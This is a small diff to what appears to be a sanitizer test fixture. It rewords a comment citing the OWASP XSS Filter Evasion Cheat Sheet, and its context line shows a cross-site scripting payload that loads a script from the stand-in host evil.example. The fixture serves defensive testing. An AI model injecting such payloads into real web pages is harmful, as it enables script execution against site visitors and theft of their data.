@@ -1,6 +1,6 @@
 /**
- * None may leave anything behind that runs, loads from elsewhere or changes the page around it. Source:
- * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and some of later date.
+ * No string may leave anything behind that runs, loads from elsewhere or changes the page around it. Source:
+ * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and some of a later date.
  */
 export const filterEvasions = {
   'a plain script': '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
